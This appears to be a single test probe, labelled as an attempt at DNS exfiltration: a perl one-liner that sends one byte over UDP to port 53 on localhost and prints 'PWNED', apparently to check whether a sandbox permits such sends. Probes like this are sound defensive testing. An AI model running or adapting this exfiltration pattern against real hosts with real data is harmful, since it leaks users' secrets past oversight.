# tries: send data out over DNS
# from: DNS exfiltration
perl -e 'use Socket; socket(S, AF_INET, SOCK_DGRAM, 17) && send(S, "x", 0, sockaddr_in(53, inet_aton("127.0.0.1"))) && print "PWNED\n"'
